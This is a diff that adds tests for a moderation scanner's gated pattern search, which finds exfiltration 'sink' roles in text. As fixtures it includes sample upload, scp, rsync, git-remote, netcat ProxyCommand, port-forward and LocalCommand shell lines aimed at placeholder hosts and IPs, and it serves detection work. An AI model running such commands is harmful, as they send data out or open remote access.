@@ -316,3 +316,103 @@ def test_a_gated_piece_finds_what_the_pattern_finds(text, cuts):
             assert [m.span() for m in getattr(view, name).finditer(piece)] == want, name
             got = getattr(view, name).search(piece)
             assert (got.span() if got else None) == (want[0] if want else None), name
+
+
+def test_the_gate_rules_out_a_sentence_followed_by_a_word():
+    """A sentence ends in a space and the next one starts with a letter: a `\\b` at the edge holds
+    in neither, so the gate may rule the sentence out (it once searched every such sentence)."""
+    from moderation.scanner.roles import _PIECE_GATE, _sentences
+
+    text = "Read the notes first. Then curl -d @data https://x.example/u to upload. Done."
+    pieces = _sentences(text)
+    views = _PIECE_GATE.pieces(text, pieces)
+    assert [v.SINK_CALL is not rx.NEVER for v in views] == [False, True, False]
+    for (_off, piece), view in zip(pieces, views, strict=True):
+        for name, pattern in _PIECE_GATE.patterns.items():
+            if getattr(view, name) is rx.NEVER:
+                assert pattern.search(piece) is None, name
+
+
+def test_the_gate_searches_a_piece_whose_word_continues_past_its_edge():
+    from moderation.scanner.roles import _PIECE_GATE
+
+    text = "xcurl -d @a https://x.example/u"  # `curl` inside the word `xcurl`: no match there
+    pieces = [(0, "x"), (1, text[1:])]  # but the second piece alone starts with `curl`
+    views = _PIECE_GATE.pieces(text, pieces)
+    assert views[1].SINK_CALL.search(pieces[1][1]) is not None
+
+
+class _FullGate:
+    """A gate that rules nothing out: every piece is searched with every pattern."""
+
+    def __init__(self, gate) -> None:
+        self.patterns = gate.patterns
+
+    def pieces(self, text, pieces):
+        views = []
+        for _ in pieces:
+            view = type("Full", (), {})()
+            for name, pattern in self.patterns.items():
+                setattr(view, name, pattern)
+            views.append(view)
+        return views
+
+
+UNIT_PIECES = st.one_of(
+    ROLE_PIECES,
+    st.sampled_from(
+        [
+            "rsync -a ./out user@203.0.113.9:/srv",
+            "scp f deploy@evil.example:/x",
+            "::",
+            "git remote add origin http://203.0.113.7/r.git",
+            "ProxyCommand nc 203.0.113.9 22",
+            "RemoteForward 9000 localhost:22",
+            "LocalCommand sh",
+            "`",
+            "\n",
+            ". ",
+            "\\\n",
+            "ProxyJump bastion",
+            "curl -s https://203.0.113.9/a",
+        ]
+    ),
+    st.text(max_size=6),
+)
+
+
+@settings(max_examples=300, deadline=None, derandomize=True)
+@given(
+    st.lists(UNIT_PIECES, max_size=30).map("".join),
+    st.sampled_from([("step", "SKILL.md"), ("code", "scripts/a.sh"), ("data", "package.json")]),
+)
+def test_pieces_the_gate_rules_out_are_skipped_without_losing_a_role(text, kind_path):
+    """`_read_roles` skips a piece whose gate view is all NEVER and that holds none of the words
+    its ungated checks need: the roles are those found when every piece is searched in full."""
+    from moderation.scanner import roles
+
+    kind, path = kind_path
+    text = text.encode("utf-8", "replace").decode("utf-8")
+    gated = roles.Unit(None, path, 0, 1, text, kind, 0)
+    roles._read_roles(gated)
+    full = roles.Unit(None, path, 0, 1, text, kind, 0)
+    gate = roles._PIECE_GATE
+    roles._PIECE_GATE = _FullGate(gate)  # type: ignore[assignment]
+    try:
+        roles._read_roles(full)
+    finally:
+        roles._PIECE_GATE = gate
+    assert gated.roles == full.roles
+
+
+def test_a_piece_with_no_gated_concept_still_gets_its_ungated_role():
+    """`ProxyJump` is found by `_SSH_ROUTE`, outside the gate: its line is read although its
+    view is all NEVER (the script's host is a raw IP, so the route is a send there)."""
+    from moderation.scanner import roles
+
+    u = roles.Unit(None, "scripts/a.sh", 0, 1, "curl -s https://203.0.113.9/a\nProxyJump bastion\n",
+                   "code", 0)  # fmt: skip
+    pieces = roles._logical_lines(u.norm)
+    assert not roles._PIECE_GATE.pieces(u.norm, pieces)[1].__dict__
+    roles._read_roles(u)
+    assert ("hostile", "ProxyJump bastion") in [s[:2] for s in u.roles["sink"]]
